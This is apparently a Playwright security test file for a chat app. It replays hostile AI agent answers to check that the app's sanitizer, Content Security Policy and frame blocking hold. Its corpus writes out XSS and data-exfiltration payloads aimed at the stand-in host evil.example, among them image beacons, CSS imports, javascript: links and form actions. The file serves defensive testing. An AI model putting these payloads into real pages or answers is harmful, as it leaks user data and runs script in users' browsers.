import type { Page, Request } from '@playwright/test';
import type { AgentRuntime } from '../../server/agents/runtime';
import { HOSTILE_PAYLOADS } from '../../src/components/markdown/hostile-payloads';
import { withoutSanitizerReports } from './csp-reports';
import { expect, test, useEnglish } from './fixtures';

/**
 * Attacks in a real browser against the real server: hostile agent answers streamed live and
 * shown again from history, and the security headers doing their work. Hostile redirect_url
 * values are judged by src/services/redirect.test.ts (every value this spec once tried, one login
 * each) and by the login screen's tests; skeleton.spec.ts keeps a few after a real login.
 */

/** The shared corpus, plus a few more ways an image could carry data to another host. */
const CORPUS: readonly string[] = [
  ...HOSTILE_PAYLOADS,
  '<img src="https://evil.example/leak.png?c=secret">',
  '![a](https://evil.example/a.png "t") and ![b](http://127.0.0.2/b.png)',
  '<picture><source srcset="https://evil.example/p.png"><img src="/x.png"></picture>',
  '<link rel="stylesheet" href="https://evil.example/s.css">',
  '<style>@import url("https://evil.example/i.css"); body { background: url(https://evil.example/bg.png) }</style>',
  '<div style="background-image:url(https://evil.example/bg.png)">styled</div>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">[relative](/x)',
  '<form action="https://evil.example/steal"><button formaction="javascript:window.__pwned=1">go</button></form>',
  '<a href="&#106;avascript:window.__pwned=1">entity</a> [e](&#x6A;avascript:window.__pwned=1) [p](%6Aavascript:window.__pwned=1)',
];

/** Answers "payload N" with entry N of the corpus, a few characters at a time. */
const replayRuntime: AgentRuntime = {
  label: 'replay',
  async *streamAnswer({ history, signal }) {
    const index = Number(/payload (\d+)/.exec(history.at(-1)?.content ?? '')?.[1] ?? -1);
    const text = CORPUS[index] ?? 'unknown payload';
    for (let at = 0; at < text.length && !signal.aborted; at += 7) {
      yield text.slice(at, at + 7);
      await new Promise((resolve) => setTimeout(resolve, 1));
    }
  },
};

// The worker's server (with generous limits: 88 payloads asked by one visitor in a minute or two
// are past a visitor's public quota), its answers replayed from the corpus.
test.beforeEach(({ answers }) => answers.writeWith(replayRuntime));

/** Everything a page did that it should not: dialogs, and requests to any other host. */
const watch = (page: Page, origin: string) => {
  const seen = { dialogs: [] as string[], foreign: [] as string[] };
  page.on('dialog', (dialog) => {
    seen.dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  page.on('request', (request: Request) => {
    const url = new URL(request.url());
    if ((url.protocol === 'http:' || url.protocol === 'https:' || url.protocol === 'ws:') && url.origin !== origin) seen.foreign.push(request.url());
  });
  page.on('popup', (popup) => seen.foreign.push(`popup ${popup.url()}`));
  return seen;
};

/** What in the answers could run, load or send: bad elements, handlers, dangerous URLs, CSS tricks. */
const findDanger = (page: Page) =>
  page.evaluate(() => {
    const problems: string[] = [];
    const FORBIDDEN = ['script', 'iframe', 'object', 'embed', 'frame', 'frameset', 'base', 'meta', 'link', 'style', 'form', 'svg', 'math', 'video', 'audio', 'source', 'template', 'picture'];
    const URL_ATTRIBUTES = ['href', 'src', 'srcset', 'action', 'formaction', 'xlink:href', 'srcdoc', 'data', 'poster', 'background'];
    // KaTeX's own output: MathML for screen readers, spans and SVG strokes; nothing else may be in it.
    const TYPESET = 'span math semantics annotation mrow mi mn mo ms mtext mspace msup msub msubsup mfrac msqrt mroot mstyle mpadded mphantom mtable mtr mtd munder mover munderover menclose svg path line'.split(' ');
    const answers = document.querySelectorAll('[data-testid="answer"]');
    for (const answer of answers) {
      const formulas = [...answer.querySelectorAll('[data-math] > span:first-child')];
      for (const element of answer.querySelectorAll('*')) {
        const tag = element.tagName.toLowerCase();
        const typeset = formulas.some((formula) => formula !== element && formula.contains(element));
        if (typeset ? !TYPESET.includes(tag) : FORBIDDEN.includes(tag)) problems.push(`<${tag}>`);
        if (typeset && element.hasAttribute('href')) problems.push(`<${tag} href> in a formula`);
        if (tag === 'input' && (element as HTMLInputElement).type !== 'checkbox') problems.push(`<input type=${(element as HTMLInputElement).type}>`);
        for (const attribute of element.attributes) {
          const name = attribute.name.toLowerCase();
          // eslint-disable-next-line no-control-regex -- the browser drops these characters from URLs too
          const value = attribute.value.replace(/[\s\u0000-\u001f]/g, '').toLowerCase();
          if (name.startsWith('on')) problems.push(`${tag}[${name}]`);
          if (URL_ATTRIBUTES.includes(name) && /^(javascript|data|vbscript):/.test(value)) problems.push(`${tag}[${name}=${attribute.value}]`);
          if (name === 'style' && /url\(|expression\(|@import|position:fixed/.test(value)) problems.push(`${tag}[style=${attribute.value}]`);
          if (tag === 'img' && name === 'src' && !value.startsWith(location.origin) && !value.startsWith('blob:')) problems.push(`img[src=${attribute.value}]`);
        }
      }
    }
    const found = window as { __pwned?: unknown; __violations?: Array<{ directive: string; source: string }> };
    return { problems, pwned: found.__pwned ?? null, violations: found.__violations ?? [], answers: answers.length };
  });


const BATCH = 24;
const batches = Array.from({ length: Math.ceil(CORPUS.length / BATCH) }, (_, i) => [i * BATCH, Math.min(CORPUS.length, (i + 1) * BATCH)] as const);

test(`the corpus holds at least 50 hostile payloads (${CORPUS.length})`, () => {
  expect(CORPUS.length).toBeGreaterThanOrEqual(50);
});

for (const [from, to] of batches) {
  test(`hostile answers ${from}–${to - 1} run nothing and load nothing, live and from history`, async ({ page, baseURL }) => {
    test.setTimeout(120_000);
    await useEnglish(page);
    // Anything the page tried to load or run against the CSP is written down here.
    await page.addInitScript(() => {
      const found = window as { __violations?: Array<{ directive: string; source: string }> };
      found.__violations = [];
      document.addEventListener('securitypolicyviolation', (event) =>
        found.__violations!.push({ directive: event.effectiveDirective, source: event.blockedURI === 'inline' ? event.sourceFile : event.blockedURI }),
      );
    });
    const seen = watch(page, new URL(baseURL!).origin);
    await page.goto('/chat');
    const box = page.getByRole('textbox', { name: /Ask anything/ });
    const complete = page.locator('li[data-role="assistant"][data-status="complete"]');

    for (let index = from; index < to; index += 1) {
      await box.fill(`payload ${index}`);
      await box.press('Enter');
      await expect(complete).toHaveCount(index - from + 1);
    }
    await page.waitForTimeout(300);
    const live = await findDanger(page);
    expect(live.answers).toBe(to - from);
    expect(live.problems, 'streamed live').toEqual([]);
    expect(live.pwned).toBeNull();
    expect(await withoutSanitizerReports(page, live.violations), 'blocked by the CSP while streaming').toEqual([]);

    await expect(page).toHaveURL(/\/chat\/[^/]+$/);
    await page.reload();
    // A long conversation opens on its latest messages; scrolling to the top brings in the
    // earlier ones, a window at a time, as a reader does. (Clicking "Show earlier messages"
    // raced that: scrolling the button into view for the click already revealed the messages
    // and removed the button, and the click then waited for it until the test's timeout.)
    const earlier = page.getByRole('button', { name: 'Show earlier messages' });
    const scrollToTop = () =>
      complete.first().evaluate((answer) => {
        let box = answer.parentElement;
        while (box && getComputedStyle(box).overflowY !== 'auto') box = box.parentElement;
        box?.scrollTo({ top: 0 });
      });
    await expect(complete.first()).toBeVisible();
    while (await earlier.isVisible()) await scrollToTop();
    await expect(complete).toHaveCount(to - from);
    await page.waitForTimeout(300);
    const stored = await findDanger(page);
    expect(stored.problems, 'from history').toEqual([]);
    expect(stored.pwned).toBeNull();
    expect(await withoutSanitizerReports(page, stored.violations), 'blocked by the CSP from history').toEqual([]);

    expect(seen.dialogs).toEqual([]);
    expect(seen.foreign).toEqual([]);
    // What an attacker wrote is shown as text, not swallowed.
    await expect(page.getByTestId('answer').first()).not.toBeEmpty();

    // The checker itself sees what it looks for.
    await page.evaluate(() => {
      const answer = document.querySelector('[data-testid="answer"]')!;
      const planted = document.createElement('img');
      planted.setAttribute('onerror', 'void 0');
      planted.setAttribute('src', 'https://evil.example/p.png');
      answer.append(planted, document.createElement('iframe'));
    });
    const planted = await findDanger(page);
    expect(planted.problems).toEqual(expect.arrayContaining(['img[onerror]', 'img[src=https://evil.example/p.png]', '<iframe>']));
  });
}

test('the page carries the security headers, and its CSP blocks injected inline script and handlers', async ({ page }) => {
  const response = await page.goto('/chat');
  const headers = response!.headers();
  // Scripts from this site only; inline, only the page's own boot script, named by its hash.
  expect(headers['content-security-policy']).toMatch(/script-src 'self'( 'sha256-[A-Za-z0-9+/]+={0,2}')?(;|$)/);
  expect(headers['content-security-policy']).not.toMatch(/script-src[^;]*unsafe-inline/);
  expect(headers['content-security-policy']).toContain("frame-ancestors 'none'");
  expect(headers['x-content-type-options']).toBe('nosniff');
  expect(headers['referrer-policy']).toBe('strict-origin-when-cross-origin');
  expect(headers['x-frame-options']).toBe('DENY');
  await expect(page.getByRole('textbox', { name: /Ask anything|输入/ })).toBeVisible();

  const outcome = await page.evaluate(
    () =>
      new Promise<{ violations: string[]; inline: unknown; handler: unknown; url: unknown }>((resolve) => {
        const violations: string[] = [];
        document.addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective));
        const script = document.createElement('script');
        script.textContent = 'window.__inline = 1';
        document.body.append(script);
        const button = document.createElement('button');
        button.setAttribute('onclick', 'window.__handler = 1');
        document.body.append(button);
        button.click();
        const link = document.createElement('a');
        link.href = 'javascript:window.__url = 1';
        document.body.append(link);
        link.click();
        setTimeout(() => {
          const found = window as { __inline?: unknown; __handler?: unknown; __url?: unknown };
          resolve({ violations, inline: found.__inline ?? null, handler: found.__handler ?? null, url: found.__url ?? null });
        }, 500);
      }),
  );
  expect(outcome).toMatchObject({ inline: null, handler: null, url: null });
  expect(outcome.violations.length).toBeGreaterThanOrEqual(2);
  expect(outcome.violations.every((directive) => directive.startsWith('script-src'))).toBe(true);
});

test('the site refuses to be framed by another page', async ({ page, baseURL }) => {
  await page.goto('about:blank');
  await page.setContent(`<iframe id="victim" src="${baseURL}/login" width="400" height="300"></iframe>`);
  await page.waitForTimeout(1_000);
  const framed = page.frames().find((frame) => frame !== page.mainFrame());
  const framedUrl = framed?.url() ?? '';
  const loaded = framed && framedUrl.startsWith(baseURL!) ? await framed.locator('input').count().catch(() => 0) : 0;
  expect(loaded).toBe(0);
});
